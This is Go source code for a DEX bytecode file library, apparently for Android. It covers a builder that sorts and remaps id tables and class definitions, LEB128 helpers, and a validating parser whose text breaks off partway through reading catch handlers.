func (cb *ClassBuilder) def() *ClassDef { return &cb.b.file.Classes[cb.idx] }

// Descriptor returns the class type descriptor.
func (cb *ClassBuilder) Descriptor() string {
	return cb.b.file.TypeName(cb.def().Class)
}

// SourceFile records the class source file name.
func (cb *ClassBuilder) SourceFile(name string) *ClassBuilder {
	cb.def().SourceFile = cb.b.String(name)
	return cb
}

// StaticField declares a static field with an optional initial value.
func (cb *ClassBuilder) StaticField(name, typ string, flags uint32, init *Value) *ClassBuilder {
	d := cb.def()
	idx := cb.b.Field(cb.Descriptor(), name, typ)
	d.StaticFields = append(d.StaticFields, EncodedField{Field: idx, AccessFlags: flags | AccStatic})
	v := defaultValue(typ)
	if init != nil {
		v = *init
	}
	d.StaticValues = append(d.StaticValues, v)
	return cb
}

// InstanceField declares an instance field.
func (cb *ClassBuilder) InstanceField(name, typ string, flags uint32) *ClassBuilder {
	d := cb.def()
	idx := cb.b.Field(cb.Descriptor(), name, typ)
	d.InstFields = append(d.InstFields, EncodedField{Field: idx, AccessFlags: flags})
	return cb
}

// DirectMethod declares a direct (static, private or constructor) method.
func (cb *ClassBuilder) DirectMethod(name, ret string, params []string, flags uint32, code *Code) *ClassBuilder {
	d := cb.def()
	idx := cb.b.Method(cb.Descriptor(), name, ret, params...)
	d.DirectMeths = append(d.DirectMeths, EncodedMethod{Method: idx, AccessFlags: flags, Code: code})
	return cb
}

// VirtualMethod declares a virtual method.
func (cb *ClassBuilder) VirtualMethod(name, ret string, params []string, flags uint32, code *Code) *ClassBuilder {
	d := cb.def()
	idx := cb.b.Method(cb.Descriptor(), name, ret, params...)
	d.VirtualMeths = append(d.VirtualMeths, EncodedMethod{Method: idx, AccessFlags: flags, Code: code})
	return cb
}

// NativeMethod declares a native method (no code item).
func (cb *ClassBuilder) NativeMethod(name, ret string, params []string, flags uint32) *ClassBuilder {
	d := cb.def()
	idx := cb.b.Method(cb.Descriptor(), name, ret, params...)
	d.DirectMeths = append(d.DirectMeths, EncodedMethod{
		Method: idx, AccessFlags: flags | AccNative,
	})
	return cb
}

func defaultValue(typ string) Value {
	switch typ {
	case "Z":
		return Value{Kind: ValueBoolean}
	case "B":
		return Value{Kind: ValueByte}
	case "S":
		return Value{Kind: ValueShort}
	case "I", "C":
		return Value{Kind: ValueInt}
	case "J":
		return Value{Kind: ValueLong}
	default:
		return NullValue()
	}
}

// Finish canonicalizes the file: sorts every id table into the order the
// DEX specification requires, remaps all cross-references including
// bytecode index operands, topologically orders class definitions, and
// returns the File. The Builder must not be reused afterwards.
func (b *Builder) Finish() (*File, error) {
	if b.finished {
		return nil, fmt.Errorf("dex: builder already finished")
	}
	b.finished = true
	f := &b.file

	stringMap := sortPerm(len(f.Strings), func(i, j int) bool {
		return f.Strings[i] < f.Strings[j]
	})
	applyPermStrings(f, stringMap)

	if stringMap != nil {
		for i := range f.Types {
			f.Types[i] = stringMap[f.Types[i]]
		}
	}
	typeMap := sortPerm(len(f.Types), func(i, j int) bool {
		return f.Types[i] < f.Types[j]
	})
	applyPermU32(f.Types, typeMap)

	if stringMap != nil || typeMap != nil {
		for i := range f.Protos {
			p := &f.Protos[i]
			p.Shorty = permAt(stringMap, p.Shorty)
			p.Return = permAt(typeMap, p.Return)
			for j := range p.Params {
				p.Params[j] = permAt(typeMap, p.Params[j])
			}
		}
	}
	protoMap := sortPerm(len(f.Protos), func(i, j int) bool {
		pi, pj := f.Protos[i], f.Protos[j]
		if pi.Return != pj.Return {
			return pi.Return < pj.Return
		}
		for k := 0; k < len(pi.Params) && k < len(pj.Params); k++ {
			if pi.Params[k] != pj.Params[k] {
				return pi.Params[k] < pj.Params[k]
			}
		}
		return len(pi.Params) < len(pj.Params)
	})
	applyPermProtos(f, protoMap)

	if stringMap != nil || typeMap != nil {
		for i := range f.Fields {
			fd := &f.Fields[i]
			fd.Class = permAt(typeMap, fd.Class)
			fd.Type = permAt(typeMap, fd.Type)
			fd.Name = permAt(stringMap, fd.Name)
		}
	}
	fieldMap := sortPerm(len(f.Fields), func(i, j int) bool {
		fi, fj := f.Fields[i], f.Fields[j]
		if fi.Class != fj.Class {
			return fi.Class < fj.Class
		}
		if fi.Name != fj.Name {
			return fi.Name < fj.Name
		}
		return fi.Type < fj.Type
	})
	applyPermFields(f, fieldMap)

	if stringMap != nil || typeMap != nil || protoMap != nil {
		for i := range f.Methods {
			m := &f.Methods[i]
			m.Class = permAt(typeMap, m.Class)
			m.Proto = permAt(protoMap, m.Proto)
			m.Name = permAt(stringMap, m.Name)
		}
	}
	methodMap := sortPerm(len(f.Methods), func(i, j int) bool {
		mi, mj := f.Methods[i], f.Methods[j]
		if mi.Class != mj.Class {
			return mi.Class < mj.Class
		}
		if mi.Name != mj.Name {
			return mi.Name < mj.Name
		}
		return mi.Proto < mj.Proto
	})
	applyPermMethods(f, methodMap)

	// Rewrite class definitions with the new indices. Member lists are
	// sorted even under identity maps: declaration order is not index order.
	for ci := range f.Classes {
		cd := &f.Classes[ci]
		cd.Class = permAt(typeMap, cd.Class)
		if cd.Superclass != NoIndex {
			cd.Superclass = permAt(typeMap, cd.Superclass)
		}
		if cd.SourceFile != NoIndex {
			cd.SourceFile = permAt(stringMap, cd.SourceFile)
		}
		for i := range cd.Interfaces {
			cd.Interfaces[i] = permAt(typeMap, cd.Interfaces[i])
		}
		// Sort members by new index; static values track their fields.
		sortFieldsWithValues(cd, fieldMap)
		for i := range cd.InstFields {
			cd.InstFields[i].Field = permAt(fieldMap, cd.InstFields[i].Field)
		}
		sort.Slice(cd.InstFields, func(i, j int) bool {
			return cd.InstFields[i].Field < cd.InstFields[j].Field
		})
		if methodMap != nil {
			for _, list := range [][]EncodedMethod{cd.DirectMeths, cd.VirtualMeths} {
				for i := range list {
					list[i].Method = methodMap[list[i].Method]
				}
			}
		}
		sort.Slice(cd.DirectMeths, func(i, j int) bool {
			return cd.DirectMeths[i].Method < cd.DirectMeths[j].Method
		})
		sort.Slice(cd.VirtualMeths, func(i, j int) bool {
			return cd.VirtualMeths[i].Method < cd.VirtualMeths[j].Method
		})
		// Remap encoded static values that reference strings or types.
		for i := range cd.StaticValues {
			v := &cd.StaticValues[i]
			switch v.Kind {
			case ValueString:
				v.Index = permAt(stringMap, v.Index)
			case ValueType:
				v.Index = permAt(typeMap, v.Index)
			}
		}
	}

	// Rewrite bytecode index operands. When every table was already in
	// canonical order (cache-warm rebuilds) there is nothing to rewrite and
	// the decode/re-encode pass over every method body is skipped entirely.
	if stringMap != nil || typeMap != nil || fieldMap != nil || methodMap != nil {
		if err := remapCode(f, b.workers, stringMap, typeMap, fieldMap, methodMap); err != nil {
			return nil, err
		}
	}

	if err := topoSortClasses(f); err != nil {
		return nil, err
	}
	return f, nil
}

// sortPerm returns a mapping old index → new index induced by sorting
// indices [0,n) with the given less function over *old* indices. A nil
// result means the input is already sorted and the permutation is the
// identity — callers skip their rewrite passes on nil (the common case on
// cache-warm rebuilds, where symbols were interned in canonical order).
//
// Interned pools are built from sorted runs: symbols arrive grouped by the
// class or method that interned them, and within a group largely in
// canonical order already. sortPerm therefore detects the ascending runs of
// the interned sequence and merges them bottom-up (a natural merge sort)
// instead of handing the whole table to a comparison sort that ignores the
// pre-existing order. One run is the identity; few runs cost ~n compares
// per level over log(runs) levels; fully random input degrades gracefully
// to an ordinary mergesort.
func sortPerm(n int, less func(i, j int) bool) []uint32 {
	if n < 2 {
		return nil
	}
	// Run boundaries: bounds[k]..bounds[k+1] is the k-th ascending run.
	bounds := []int{0}
	for i := 1; i < n; i++ {
		if less(i, i-1) {
			bounds = append(bounds, i)
		}
	}
	if len(bounds) == 1 {
		return nil
	}
	bounds = append(bounds, n)
	order := make([]int32, n)
	for i := range order {
		order[i] = int32(i)
	}
	buf := make([]int32, n)
	for len(bounds) > 2 {
		merged := bounds[:1]
		for k := 0; k+2 < len(bounds); k += 2 {
			lo, mid, hi := bounds[k], bounds[k+1], bounds[k+2]
			mergeRuns(order, buf, lo, mid, hi, less)
			merged = append(merged, hi)
		}
		if len(bounds)%2 == 0 { // odd run count: last run carries over
			merged = append(merged, bounds[len(bounds)-1])
		}
		bounds = merged
	}
	perm := make([]uint32, n)
	for newIdx, oldIdx := range order {
		perm[oldIdx] = uint32(newIdx)
	}
	return perm
}

// mergeRuns merges the sorted runs order[lo:mid] and order[mid:hi] in place
// (through buf), comparing original indices with less. Stable: the left run
// wins ties, matching what a stable comparison sort would produce.
func mergeRuns(order, buf []int32, lo, mid, hi int, less func(i, j int) bool) {
	i, j, k := lo, mid, lo
	for i < mid && j < hi {
		if less(int(order[j]), int(order[i])) {
			buf[k] = order[j]
			j++
		} else {
			buf[k] = order[i]
			i++
		}
		k++
	}
	copy(buf[k:], order[i:mid])
	copy(buf[k+mid-i:hi], order[j:hi])
	copy(order[lo:hi], buf[lo:hi])
}

// permAt resolves an index through a permutation, treating nil as identity.
func permAt(perm []uint32, i uint32) uint32 {
	if perm == nil {
		return i
	}
	return perm[i]
}

func applyPermStrings(f *File, perm []uint32) {
	if perm == nil {
		return
	}
	out := make([]string, len(f.Strings))
	for old, s := range f.Strings {
		out[perm[old]] = s
	}
	f.Strings = out
}

func applyPermU32(xs []uint32, perm []uint32) {
	if perm == nil {
		return
	}
	out := make([]uint32, len(xs))
	for old, v := range xs {
		out[perm[old]] = v
	}
	copy(xs, out)
}

func applyPermProtos(f *File, perm []uint32) {
	if perm == nil {
		return
	}
	out := make([]Proto, len(f.Protos))
	for old, p := range f.Protos {
		out[perm[old]] = p
	}
	f.Protos = out
}

func applyPermFields(f *File, perm []uint32) {
	if perm == nil {
		return
	}
	out := make([]FieldID, len(f.Fields))
	for old, fd := range f.Fields {
		out[perm[old]] = fd
	}
	f.Fields = out
}

func applyPermMethods(f *File, perm []uint32) {
	if perm == nil {
		return
	}
	out := make([]MethodID, len(f.Methods))
	for old, m := range f.Methods {
		out[perm[old]] = m
	}
	f.Methods = out
}

func sortFieldsWithValues(cd *ClassDef, fieldMap []uint32) {
	type pair struct {
		f EncodedField
		v Value
	}
	pairs := make([]pair, len(cd.StaticFields))
	for i := range cd.StaticFields {
		pairs[i].f = cd.StaticFields[i]
		pairs[i].f.Field = permAt(fieldMap, pairs[i].f.Field)
		if i < len(cd.StaticValues) {
			pairs[i].v = cd.StaticValues[i]
		}
	}
	sort.Slice(pairs, func(i, j int) bool { return pairs[i].f.Field < pairs[j].f.Field })
	for i := range pairs {
		cd.StaticFields[i] = pairs[i].f
		if i < len(cd.StaticValues) {
			cd.StaticValues[i] = pairs[i].v
		}
	}
}

// remapCode rewrites every index-bearing instruction of every method body.
// Bodies are independent — each task touches only its own Code and reads
// the shared permutations — so they fan out across a bounded worker set;
// pipeline.ParallelDo returns the lowest-index error, keeping failures
// deterministic across worker counts.
func remapCode(f *File, workers int, stringMap, typeMap, fieldMap, methodMap []uint32) error {
	type task struct {
		code   *Code
		method uint32
	}
	var tasks []task
	for ci := range f.Classes {
		cd := &f.Classes[ci]
		for _, list := range [][]EncodedMethod{cd.DirectMeths, cd.VirtualMeths} {
			for mi := range list {
				if list[mi].Code != nil {
					tasks = append(tasks, task{code: list[mi].Code, method: list[mi].Method})
				}
			}
		}
	}
	return pipeline.ParallelDo(workers, len(tasks), func(i int) error {
		code, method := tasks[i].code, tasks[i].method
		if typeMap != nil {
			for ti := range code.Tries {
				for hi := range code.Tries[ti].Handlers {
					h := &code.Tries[ti].Handlers[hi]
					if int(h.Type) >= len(typeMap) {
						return fmt.Errorf("dex: remap: catch type %d out of range", h.Type)
					}
					h.Type = typeMap[h.Type]
				}
			}
		}
		// Fast path: the assembler recorded where every index operand sits
		// (always one 16-bit code unit past the opcode for the formats it
		// emits), so patch those units in place with no decode/re-encode.
		if code.IndexFixups != nil {
			for _, fx := range code.IndexFixups {
				var m []uint32
				switch fx.Kind {
				case bytecode.IndexString:
					m = stringMap
				case bytecode.IndexType:
					m = typeMap
				case bytecode.IndexField:
					m = fieldMap
				case bytecode.IndexMethod:
					m = methodMap
				default:
					continue
				}
				if m == nil {
					continue // identity permutation: operand already final
				}
				at := int(fx.PC) + 1
				if at >= len(code.Insns) {
					return fmt.Errorf("dex: remap: fixup pc %d out of range", fx.PC)
				}
				old := uint32(code.Insns[at])
				if int(old) >= len(m) {
					return fmt.Errorf("dex: remap: index %d out of range at pc %d", old, fx.PC)
				}
				idx := m[old]
				if idx > 0xffff {
					return fmt.Errorf("dex: remap: index %d exceeds 16 bits at pc %d", idx, fx.PC)
				}
				code.Insns[at] = uint16(idx)
			}
			return nil
		}
		placed, err := bytecode.DecodeAll(code.Insns)
		if err != nil {
			return fmt.Errorf("dex: remap %s: %w", f.MethodAt(method).Key(), err)
		}
		for _, p := range placed {
			var m []uint32
			switch p.Inst.Op.Index() {
			case bytecode.IndexString:
				m = stringMap
			case bytecode.IndexType:
				m = typeMap
			case bytecode.IndexField:
				m = fieldMap
			case bytecode.IndexMethod:
				m = methodMap
			default:
				continue
			}
			if m == nil {
				continue // identity permutation: operand already final
			}
			if int(p.Inst.Index) >= len(m) {
				return fmt.Errorf("dex: remap: index %d out of range at pc %d",
					p.Inst.Index, p.PC)
			}
			in := p.Inst
			in.Index = m[p.Inst.Index]
			units, err := bytecode.Encode(in)
			if err != nil {
				return fmt.Errorf("dex: remap re-encode: %w", err)
			}
			copy(code.Insns[p.PC:], units)
		}
		return nil
	})
}

// topoSortClasses orders class definitions so that superclasses and
// implemented interfaces defined in this file come first, as the DEX
// specification requires.
func topoSortClasses(f *File) error {
	byType := make(map[uint32]int, len(f.Classes))
	for i := range f.Classes {
		if _, dup := byType[f.Classes[i].Class]; dup {
			return fmt.Errorf("dex: duplicate class %s", f.TypeName(f.Classes[i].Class))
		}
		byType[f.Classes[i].Class] = i
	}
	// Fast path: already topologically ordered (every in-file dependency
	// precedes its dependent), which a warm rebuild hits every time.
	ordered := true
check:
	for i := range f.Classes {
		deps := f.Classes[i].Interfaces
		if s := f.Classes[i].Superclass; s != NoIndex {
			if j, ok := byType[s]; ok && j >= i {
				ordered = false
				break
			}
		}
		for _, d := range deps {
			if j, ok := byType[d]; ok && j >= i {
				ordered = false
				break check
			}
		}
	}
	if ordered {
		return nil
	}
	const (
		white = 0
		gray  = 1
		black = 2
	)
	color := make([]int, len(f.Classes))
	order := make([]int, 0, len(f.Classes))
	var visit func(i int) error
	visit = func(i int) error {
		switch color[i] {
		case gray:
			return fmt.Errorf("dex: class hierarchy cycle involving %s",
				f.TypeName(f.Classes[i].Class))
		case black:
			return nil
		}
		color[i] = gray
		deps := make([]uint32, 0, 1+len(f.Classes[i].Interfaces))
		if f.Classes[i].Superclass != NoIndex {
			deps = append(deps, f.Classes[i].Superclass)
		}
		deps = append(deps, f.Classes[i].Interfaces...)
		for _, d := range deps {
			if j, ok := byType[d]; ok {
				if err := visit(j); err != nil {
					return err
				}
			}
		}
		color[i] = black
		order = append(order, i)
		return nil
	}
	for i := range f.Classes {
		if err := visit(i); err != nil {
			return err
		}
	}
	out := make([]ClassDef, len(f.Classes))
	for pos, idx := range order {
		out[pos] = f.Classes[idx]
	}
	f.Classes = out
	return nil
}
