package dex

import "errors"

var errLEB = errors.New("dex: malformed LEB128 value")

// appendULEB128 appends the unsigned LEB128 encoding of v to b.
func appendULEB128(b []byte, v uint32) []byte {
	for {
		c := byte(v & 0x7f)
		v >>= 7
		if v != 0 {
			b = append(b, c|0x80)
			continue
		}
		return append(b, c)
	}
}

// readULEB128 decodes an unsigned LEB128 value from b starting at off and
// returns the value and the offset just past it. Encodings longer than the
// 5-byte maximum of a uint32 are rejected (libdex reads at most 5 bytes;
// accepting a 6th would silently drop its payload bits).
func readULEB128(b []byte, off int) (uint32, int, error) {
	var v uint32
	for shift := 0; shift < 35; shift += 7 {
		if off >= len(b) {
			return 0, off, errLEB
		}
		c := b[off]
		off++
		v |= uint32(c&0x7f) << shift
		if c&0x80 == 0 {
			return v, off, nil
		}
	}
	return 0, off, errLEB
}

// appendSLEB128 appends the signed LEB128 encoding of v to b.
func appendSLEB128(b []byte, v int32) []byte {
	for {
		c := byte(v & 0x7f)
		v >>= 7
		if (v == 0 && c&0x40 == 0) || (v == -1 && c&0x40 != 0) {
			return append(b, c)
		}
		b = append(b, c|0x80)
	}
}

// readSLEB128 decodes a signed LEB128 value from b starting at off,
// rejecting encodings longer than the 5-byte maximum of an int32.
func readSLEB128(b []byte, off int) (int32, int, error) {
	var v int32
	var shift int
	for shift < 35 {
		if off >= len(b) {
			return 0, off, errLEB
		}
		c := b[off]
		off++
		v |= int32(c&0x7f) << shift
		shift += 7
		if c&0x80 == 0 {
			if shift < 32 && c&0x40 != 0 {
				v |= -1 << shift
			}
			return v, off, nil
		}
	}
	return 0, off, errLEB
}
