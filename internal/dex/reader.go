package dex

import (
	"crypto/sha1"
	"crypto/subtle"
	"errors"
	"fmt"
	"hash/adler32"
	"unsafe"
)

// FormatError describes a malformed DEX file.
type FormatError struct {
	Offset int
	Reason string
}

func (e *FormatError) Error() string {
	return fmt.Sprintf("dex: invalid file at offset %#x: %s", e.Offset, e.Reason)
}

// ErrChecksum is returned when the header checksum or signature does not
// match the file contents.
var ErrChecksum = errors.New("dex: checksum or signature mismatch")

type byteReader struct {
	buf []byte
	// shared lets string payloads alias buf instead of copying (ReadShared).
	shared bool
	// insnArena batches the []uint16 instruction allocations of all code
	// items into chunks, one allocation per chunk instead of per method.
	insnArena []uint16
	// seenCode tracks code-item offsets already aliased into buf, so a
	// duplicate code_off falls back to a private copy (see insnsAt).
	seenCode map[int]bool
}

// hostLittleEndian reports whether uint16 values have the DEX file's byte
// order in memory, making a zero-copy view of the instruction stream valid.
var hostLittleEndian = func() bool {
	x := uint16(1)
	return *(*byte)(unsafe.Pointer(&x)) == 1
}()

// insnsAt returns the code item's []uint16 instruction view. On a shared
// little-endian read it aliases buf directly — the same ownership rule as
// shared strings — saving the dominant per-method decode allocation. Every
// later consumer that mutates instructions (the runtime's class linker, the
// packer) copies out of the File first, so File-level instruction arrays
// only see in-place writes from index remapping, which each File performs
// on its own buffer. Two code items at the same offset must still never
// share backing (a write through one method would leak into the other), so
// only the first occurrence of an offset is aliased.
func (r *byteReader) insnsAt(start, n int) []uint16 {
	if r.shared && hostLittleEndian && n > 0 &&
		uintptr(unsafe.Pointer(&r.buf[start]))%2 == 0 {
		if r.seenCode == nil {
			r.seenCode = make(map[int]bool)
		}
		if !r.seenCode[start] {
			r.seenCode[start] = true
			return unsafe.Slice((*uint16)(unsafe.Pointer(&r.buf[start])), n)
		}
	}
	s := r.insnSlice(n)
	raw := r.buf[start : start+2*n]
	for i := range s {
		s[i] = uint16(raw[2*i]) | uint16(raw[2*i+1])<<8
	}
	return s
}

// insnSlice returns a zeroed []uint16 of length n carved from the arena.
// Slices never overlap, so per-method in-place mutation (self-modifying
// code under the runtime) stays confined to its own method.
func (r *byteReader) insnSlice(n int) []uint16 {
	const chunk = 4096
	if n >= chunk {
		return make([]uint16, n)
	}
	if len(r.insnArena) < n {
		r.insnArena = make([]uint16, chunk)
	}
	s := r.insnArena[:n:n]
	r.insnArena = r.insnArena[n:]
	return s
}

func (r *byteReader) u16(off int) (uint16, error) {
	if off < 0 || off+2 > len(r.buf) {
		return 0, &FormatError{Offset: off, Reason: "truncated u16"}
	}
	return uint16(r.buf[off]) | uint16(r.buf[off+1])<<8, nil
}

func (r *byteReader) u32(off int) (uint32, error) {
	if off < 0 || off+4 > len(r.buf) {
		return 0, &FormatError{Offset: off, Reason: "truncated u32"}
	}
	return uint32(r.buf[off]) | uint32(r.buf[off+1])<<8 |
		uint32(r.buf[off+2])<<16 | uint32(r.buf[off+3])<<24, nil
}

// Read parses a DEX binary produced by Write (or any conforming subset of
// the real format) back into a File. The header checksum and signature are
// verified. Every payload is copied out of buf, so the caller may reuse or
// mutate buf afterwards.
func Read(buf []byte) (*File, error) {
	return read(buf, false)
}

// ReadShared parses like Read but lets payloads (string data) alias buf
// instead of copying, eliminating the dominant decode allocations.
// Ownership rule: the caller must not mutate buf for the lifetime of the
// returned File or of any File derived from it. Use it where the buffer is
// immutable by construction — e.g. on the fresh copy apk.Dex returns, or on
// an encode result that is only verified and then dropped.
func ReadShared(buf []byte) (*File, error) {
	return read(buf, true)
}

func read(buf []byte, shared bool) (*File, error) {
	if len(buf) < headerSize {
		return nil, &FormatError{Offset: 0, Reason: "file smaller than header"}
	}
	if string(buf[:8]) != Magic {
		return nil, &FormatError{Offset: 0, Reason: "bad magic"}
	}
	r := &byteReader{buf: buf, shared: shared}
	checksum, _ := r.u32(8)
	if adler32.Checksum(buf[12:]) != checksum {
		return nil, ErrChecksum
	}
	sig := sha1.Sum(buf[32:])
	if subtle.ConstantTimeCompare(sig[:], buf[12:32]) != 1 {
		return nil, ErrChecksum
	}
	fileSize, _ := r.u32(32)
	if int(fileSize) != len(buf) {
		return nil, &FormatError{Offset: 32, Reason: "file size mismatch"}
	}
	hdrSize, _ := r.u32(36)
	if hdrSize != headerSize {
		return nil, &FormatError{Offset: 36, Reason: "unexpected header size"}
	}
	endian, _ := r.u32(40)
	if endian != endianTag {
		return nil, &FormatError{Offset: 40, Reason: "unsupported endianness"}
	}

	stringIDsSize, _ := r.u32(56)
	stringIDsOff, _ := r.u32(60)
	typeIDsSize, _ := r.u32(64)
	typeIDsOff, _ := r.u32(68)
	protoIDsSize, _ := r.u32(72)
	protoIDsOff, _ := r.u32(76)
	fieldIDsSize, _ := r.u32(80)
	fieldIDsOff, _ := r.u32(84)
	methodIDsSize, _ := r.u32(88)
	methodIDsOff, _ := r.u32(92)
	classDefsSize, _ := r.u32(96)
	classDefsOff, _ := r.u32(100)

	const limit = 1 << 24 // defensive cap against hostile size fields
	for _, s := range []uint32{stringIDsSize, typeIDsSize, protoIDsSize,
		fieldIDsSize, methodIDsSize, classDefsSize} {
		if s > limit {
			return nil, &FormatError{Offset: 56, Reason: "section size too large"}
		}
	}

	f := &File{}

	f.Strings = make([]string, stringIDsSize)
	for i := 0; i < int(stringIDsSize); i++ {
		off, err := r.u32(int(stringIDsOff) + 4*i)
		if err != nil {
			return nil, err
		}
		s, err := r.readStringData(int(off))
		if err != nil {
			return nil, err
		}
		f.Strings[i] = s
	}

	f.Types = make([]uint32, typeIDsSize)
	for i := 0; i < int(typeIDsSize); i++ {
		v, err := r.u32(int(typeIDsOff) + 4*i)
		if err != nil {
			return nil, err
		}
		if v >= stringIDsSize {
			return nil, &FormatError{Offset: int(typeIDsOff) + 4*i, Reason: "type string index out of range"}
		}
		f.Types[i] = v
	}

	f.Protos = make([]Proto, protoIDsSize)
	for i := 0; i < int(protoIDsSize); i++ {
		base := int(protoIDsOff) + 12*i
		shorty, err := r.u32(base)
		if err != nil {
			return nil, err
		}
		ret, err := r.u32(base + 4)
		if err != nil {
			return nil, err
		}
		paramsOff, err := r.u32(base + 8)
		if err != nil {
			return nil, err
		}
		params, err := r.readTypeList(int(paramsOff))
		if err != nil {
			return nil, err
		}
		f.Protos[i] = Proto{Shorty: shorty, Return: ret, Params: params}
	}

	f.Fields = make([]FieldID, fieldIDsSize)
	for i := 0; i < int(fieldIDsSize); i++ {
		base := int(fieldIDsOff) + 8*i
		cls, err := r.u16(base)
		if err != nil {
			return nil, err
		}
		typ, err := r.u16(base + 2)
		if err != nil {
			return nil, err
		}
		name, err := r.u32(base + 4)
		if err != nil {
			return nil, err
		}
		f.Fields[i] = FieldID{Class: uint32(cls), Type: uint32(typ), Name: name}
	}

	f.Methods = make([]MethodID, methodIDsSize)
	for i := 0; i < int(methodIDsSize); i++ {
		base := int(methodIDsOff) + 8*i
		cls, err := r.u16(base)
		if err != nil {
			return nil, err
		}
		proto, err := r.u16(base + 2)
		if err != nil {
			return nil, err
		}
		name, err := r.u32(base + 4)
		if err != nil {
			return nil, err
		}
		f.Methods[i] = MethodID{Class: uint32(cls), Proto: uint32(proto), Name: name}
	}

	f.Classes = make([]ClassDef, classDefsSize)
	for i := 0; i < int(classDefsSize); i++ {
		base := int(classDefsOff) + 32*i
		vals := make([]uint32, 8)
		for j := range vals {
			v, err := r.u32(base + 4*j)
			if err != nil {
				return nil, err
			}
			vals[j] = v
		}
		cd := ClassDef{
			Class:       vals[0],
			AccessFlags: vals[1],
			Superclass:  vals[2],
			SourceFile:  vals[4],
		}
		ifaces, err := r.readTypeList(int(vals[3]))
		if err != nil {
			return nil, err
		}
		cd.Interfaces = ifaces
		if vals[6] != 0 {
			if err := r.readClassData(int(vals[6]), &cd); err != nil {
				return nil, err
			}
		}
		if vals[7] != 0 {
			sv, err := r.readEncodedArray(int(vals[7]))
			if err != nil {
				return nil, err
			}
			cd.StaticValues = sv
		}
		f.Classes[i] = cd
	}
	return f, nil
}

func (r *byteReader) readStringData(off int) (string, error) {
	u16len, pos, err := readULEB128(r.buf, off)
	if err != nil {
		return "", &FormatError{Offset: off, Reason: "bad string length"}
	}
	end := pos
	for end < len(r.buf) && r.buf[end] != 0 {
		end++
	}
	if end >= len(r.buf) {
		return "", &FormatError{Offset: off, Reason: "unterminated string data"}
	}
	raw := r.buf[pos:end]
	if r.shared && pos < end {
		// Zero-copy path: an ASCII payload needs no transformation, so the
		// string header can alias the file buffer directly. Safe under the
		// ReadShared contract (the caller keeps buf immutable).
		i := 0
		for i < len(raw) && raw[i] != 0 && raw[i] < 0x80 {
			i++
		}
		if i == len(raw) {
			_ = u16len
			return unsafe.String(&raw[0], len(raw)), nil
		}
	}
	s, err := decodeMUTF8(raw)
	if err != nil {
		return "", &FormatError{Offset: off, Reason: err.Error()}
	}
	_ = u16len // length is re-derivable; trusted readers may verify
	return s, nil
}

func (r *byteReader) readTypeList(off int) ([]uint32, error) {
	if off == 0 {
		return nil, nil
	}
	size, err := r.u32(off)
	if err != nil {
		return nil, err
	}
	if size > 1<<16 {
		return nil, &FormatError{Offset: off, Reason: "type list too large"}
	}
	out := make([]uint32, size)
	for i := 0; i < int(size); i++ {
		v, err := r.u16(off + 4 + 2*i)
		if err != nil {
			return nil, err
		}
		out[i] = uint32(v)
	}
	return out, nil
}

func (r *byteReader) readClassData(off int, cd *ClassDef) error {
	pos := off
	var counts [4]uint32
	var err error
	for i := range counts {
		counts[i], pos, err = readULEB128(r.buf, pos)
		if err != nil {
			return &FormatError{Offset: off, Reason: "bad class data header"}
		}
	}
	const maxMembers = 1 << 20
	for _, c := range counts {
		if c > maxMembers {
			return &FormatError{Offset: off, Reason: "class data too large"}
		}
	}
	readFieldList := func(n uint32) ([]EncodedField, error) {
		if n == 0 {
			return nil, nil
		}
		out := make([]EncodedField, 0, n)
		idx := uint32(0)
		for i := uint32(0); i < n; i++ {
			var diff, flags uint32
			diff, pos, err = readULEB128(r.buf, pos)
			if err != nil {
				return nil, err
			}
			flags, pos, err = readULEB128(r.buf, pos)
			if err != nil {
				return nil, err
			}
			idx += diff
			out = append(out, EncodedField{Field: idx, AccessFlags: flags})
		}
		return out, nil
	}
	readMethodList := func(n uint32) ([]EncodedMethod, error) {
		if n == 0 {
			return nil, nil
		}
		out := make([]EncodedMethod, 0, n)
		idx := uint32(0)
		for i := uint32(0); i < n; i++ {
			var diff, flags, codeOff uint32
			diff, pos, err = readULEB128(r.buf, pos)
			if err != nil {
				return nil, err
			}
			flags, pos, err = readULEB128(r.buf, pos)
			if err != nil {
				return nil, err
			}
			codeOff, pos, err = readULEB128(r.buf, pos)
			if err != nil {
				return nil, err
			}
			idx += diff
			em := EncodedMethod{Method: idx, AccessFlags: flags}
			if codeOff != 0 {
				code, cerr := r.readCodeItem(int(codeOff))
				if cerr != nil {
					return nil, cerr
				}
				em.Code = code
			}
			out = append(out, em)
		}
		return out, nil
	}
	if cd.StaticFields, err = readFieldList(counts[0]); err != nil {
		return err
	}
	if cd.InstFields, err = readFieldList(counts[1]); err != nil {
		return err
	}
	if cd.DirectMeths, err = readMethodList(counts[2]); err != nil {
		return err
	}
	if cd.VirtualMeths, err = readMethodList(counts[3]); err != nil {
		return err
	}
	return nil
}

func (r *byteReader) readCodeItem(off int) (*Code, error) {
	regs, err := r.u16(off)
	if err != nil {
		return nil, err
	}
	ins, err := r.u16(off + 2)
	if err != nil {
		return nil, err
	}
	outs, err := r.u16(off + 4)
	if err != nil {
		return nil, err
	}
	triesSize, err := r.u16(off + 6)
	if err != nil {
		return nil, err
	}
	insnsSize, err := r.u32(off + 12)
	if err != nil {
		return nil, err
	}
	if insnsSize > 1<<24 {
		return nil, &FormatError{Offset: off, Reason: "instruction array too large"}
	}
	code := &Code{RegistersSize: regs, InsSize: ins, OutsSize: outs}
	// One bounds check for the whole array, then a tight copy loop.
	insnsStart := off + 16
	if insnsStart < 0 || insnsStart+2*int(insnsSize) > len(r.buf) {
		return nil, &FormatError{Offset: off, Reason: "truncated instruction array"}
	}
	code.Insns = r.insnsAt(insnsStart, int(insnsSize))
	if triesSize == 0 {
		return code, nil
	}
	triesOff := off + 16 + 2*int(insnsSize)
	if insnsSize%2 != 0 {
		triesOff += 2
	}
	handlersOff := triesOff + 8*int(triesSize)
	for i := 0; i < int(triesSize); i++ {
		base := triesOff + 8*i
		start, err := r.u32(base)
		if err != nil {
			return nil, err
		}
		count, err := r.u16(base + 4)
		if err != nil {
			return nil, err
		}
		hOff, err := r.u16(base + 6)
		if err != nil {
			return nil, err
		}
		t := Try{Start: start, Count: uint32(count), CatchAll: -1}
		pos := handlersOff + int(hOff)
		var size int32
		size, pos, err = readSLEB128(r.buf, pos)
		if err != nil {
			return nil, &FormatError{Offset: pos, Reason: "bad catch handler"}
		}
		n := size
		if n < 0 {
			n = -n
		}
		if n > 1<<12 {
			return nil, &FormatError{Offset: pos, Reason: "too many catch handlers"}
		}
		for j := int32(0); j < n; j++ {
			var typ, addr uint32
			typ, pos, err = readULEB128(r.buf, pos)
			if err != nil {
